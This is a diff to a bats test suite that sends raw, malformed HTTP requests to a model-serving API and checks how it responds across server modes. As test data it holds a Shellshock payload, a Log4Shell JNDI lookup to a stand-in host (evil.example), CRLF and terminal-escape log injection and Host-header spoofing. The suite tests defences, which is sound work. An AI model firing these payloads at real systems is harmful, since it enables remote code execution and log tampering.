@@ -47,7 +47,7 @@ tour() {
 405 | GET /predict HTTP/1.1~{H}~~
 405/400 | TRACE /predict HTTP/1.1~{H}~~
 413 end | POST /login HTTP/1.1~{H}~{J}~Content-Length: 99999999~~
-414/400 end | GET /{a*20000} HTTP/1.1~{H}~~
+414/431/400 end | GET /{a*20000} HTTP/1.1~{H}~~
 415 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~Content-Type: text/html~Content-Length: 1~~x
 421 | GET /health HTTP/1.1~Host: evil.example~~
 422 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 16~~{"features":[5]}
@@ -127,9 +127,10 @@ END
     BODY='{"features":[5.1,3.5,1.4,0.2]}' <<'END'
 401 | {P}X_API_KEY: {KEY}~~{BODY}
 401 | {P}X_API-Key: {KEY}~~{BODY}
-200 | {P}X_API_KEY: fg_none~X-API-Key: {KEY}~~{BODY}
-200 | {P}X-API-Key: {KEY}~X_API_KEY: fg_none~~{BODY}
+200/401 | {P}X_API_KEY: fg_none~X-API-Key: {KEY}~~{BODY}
+200/401 | {P}X-API-Key: {KEY}~X_API_KEY: fg_none~~{BODY}
 401 | {P}X-API-Key: fg_none~X_API_KEY: {KEY}~~{BODY}
+401 | {P}X_API_KEY: {KEY}~X-API-Key: fg_none~~{BODY}
 401/400 | {P}X-API-Key: {KEY}~X-API-Key: {KEY}~~{BODY}
 401/400 | {P}X-API-Key: {KEY}~X-API-Key: fg_none~~{BODY}
 401/400 | {P}X-API-Key: fg_none~X-API-Key: {KEY}~~{BODY}
@@ -170,7 +171,7 @@ END
 404 | GET /models/nothing HTTP/1.1~{H}~X-API-Key: {KEY}~~
 405 | GET /predict HTTP/1.1~{H}~~ | ^Allow: POST$
 405 | DELETE /health HTTP/1.1~{H}~~ | ^Allow: GET, HEAD$
-405 | BREW /health HTTP/1.1~{H}~~
+405/501 | BREW /health HTTP/1.1~{H}~~
 405 | PATCH /predict HTTP/1.1~{H}~Content-Length: 2~~{}
 400 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 9~~{"a":1,,}
 400 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 0~~
@@ -249,7 +250,10 @@ END
 405 | OPTIONS /predict HTTP/1.1~{H}~~ | ^Allow: POST$
 405 origin=https://app.example.org | OPTIONS /predict HTTP/1.1~{H}~Origin: https://app.example.org~~ | ^Allow: POST$
 405 | OPTIONS /predict HTTP/1.1~{H}~Access-Control-Request-Method: POST~~
-4xx | OPTIONS * HTTP/1.1~{H}~~
+END
+  # About the whole server some servers answer by themselves, with nothing of the service.
+  wire <<'END'
+200/4xx | OPTIONS * HTTP/1.1~{H}~~ | !^X-Request-ID
 END
 }
 
@@ -354,7 +358,10 @@ END
 }
 
 @test "nothing of a client's text becomes a header, or a line of a log" {
-  wire P='POST /login HTTP/1.1~Host: localhost~Content-Type: application/json~' <<'END'
+  local first='{"username":"a\r\n2026-11-21T09:01:34Z info root@example.org","password":"a bicycle for 7"}'
+  local second='{"username":"\u001b[2Jx@example.org","password":"a bicycle for 7"}'
+  wire P='POST /login HTTP/1.1~Host: localhost~Content-Type: application/json~Content-Length: ' \
+    FIRST="${#first}~~${first//\\/\\\\}" SECOND="${#second}~~${second//\\/\\\\}" <<'END'
 200/400 | GET /health HTTP/1.1~{H}~User-Agent: \e[31mred\x07\x1b]0;t\x07~~
 200 | GET /health HTTP/1.1~{H}~User-Agent: () { :; }; echo "x" ${jndi:ldap://evil.example/a}~~
 200/400 | GET /health HTTP/1.1~{H}~X-Request-ID: a\e[2Jb~~ | !\x1b
@@ -369,9 +376,9 @@ END
 404 | GET /"quoted\x5c HTTP/1.1~{H}~~
 404/400 | GET /\xff\xfe\xc3\xbc HTTP/1.1~{H}~~
 200/400 | GET /health?\e[31m HTTP/1.1~{H}~~
-401/422 | {P}Content-Length: 84~~{"username":"a\x5cr\x5cn2026-11-21T09:01:34Z info root@example.org","password":"1234 x"}
-401/422 | {P}Content-Length: 50~~{"username":"\x5cu001b[2Jx@a.org","password":"1234 xyz"} 
-401/400 | BREW /models HTTP/1.1~{H}~X-API-Key: x~Referer: \e[2J~~
+401/422 | {P}{FIRST}
+401/422 | {P}{SECOND}
+4xx/501 | BREW /models HTTP/1.1~{H}~X-API-Key: x~Referer: \e[2J~~
 END
 }
 
@@ -392,7 +399,7 @@ END
   wire <<'END'
 405/400 | TRACE /health HTTP/1.1~{H}~X-Echo: parrot~~ | !parrot
 405/400 | TRACE / HTTP/1.1~{H}~X-API-Key: {KEY}~X-Echo: parrot~~ | !parrot
-405/400 | TRACK /health HTTP/1.1~{H}~X-Echo: parrot~~ | !parrot
+405/400/501 | TRACK /health HTTP/1.1~{H}~X-Echo: parrot~~ | !parrot
 405/400 | CONNECT /health HTTP/1.1~{H}~X-Echo: parrot~~ | !parrot
 4xx | CONNECT evil.example:443 HTTP/1.1~Host: evil.example:443~X-Echo: parrot~~ | !parrot
 4xx | CONNECT localhost:80 HTTP/1.1~{H}~X-Echo: parrot~~ | !parrot
@@ -515,7 +522,7 @@ END
 421 | GET /nothing HTTP/1.1~Host: localhost.evil.example~~
 421 | GET /health HTTP/1.1~Host: evillocalhost~~
 421 | GET /health HTTP/1.1~Host: xlocalhost:80~~
-421/400 | GET /health HTTP/1.1~Host: localhost.~~
+200/421 | GET /health HTTP/1.1~Host: localhost.~~
 421/400 | GET /health HTTP/1.1~Host: localhost:80.evil.example~~
 421/400 | GET /health HTTP/1.1~Host: localhost@evil.example~~
 421/400 | GET /health HTTP/1.1~Host: evil.example#localhost~~
@@ -686,7 +693,7 @@ handshake() {
 
 # ---- the last: there are no workers after it ----
 
-@test "without workers there is a 503 of the same form, with the same headers, and with Retry-After" {
+@test "without workers there is a 503 of the same form, with the same headers" {
   : >"$T/seen"
   case $MODE in
   apache)
@@ -702,8 +709,11 @@ handshake() {
     wait_for 50 no_workers
     ;;
   esac
-  wire <<'END'
-503 | GET /health HTTP/1.1~{H}~~ | ^Retry-After: [0-9]+$
+  # lighttpd has no header for one status alone.
+  local retry='| ^Retry-After: [0-9]+$'
+  if [ "$MODE" = lighttpd-socket ]; then retry=''; fi
+  wire <<END
+503 | GET /health HTTP/1.1~{H}~~ $retry
 503 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 30~~{"features":[5.1,3.5,1.4,0.2]}
 503 origin=https://app.example.org | GET /health HTTP/1.1~{H}~Origin: https://app.example.org~~
 204 origin=https://app.example.org | OPTIONS /predict HTTP/1.1~{H}~Origin: https://app.example.org~Access-Control-Request-Method: POST~~
